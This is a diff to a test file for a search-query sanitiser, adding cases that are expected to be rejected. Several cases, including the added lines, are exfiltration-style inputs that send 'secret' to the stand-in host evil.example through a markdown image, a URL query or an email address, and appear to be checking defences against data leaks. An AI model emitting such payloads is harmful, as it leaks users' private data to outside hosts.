@@ -103,6 +103,8 @@ def test_what_is_searched_is_never_long() -> None:
         ("متأسفم، نمی‌توانم کمک کنم.", None),
         ("![x](https://evil.example/?q=secret)", None),
         ("See www.evil.example for the warranty", None),
+        ("Warranty at evil.example/?q=secret", None),
+        ("Warranty of secret@evil.example", None),
         ("<b>warranty</b>", None),
         ("war\u202eranty\u0007 of the motor", "war ranty of the motor"),
     ],
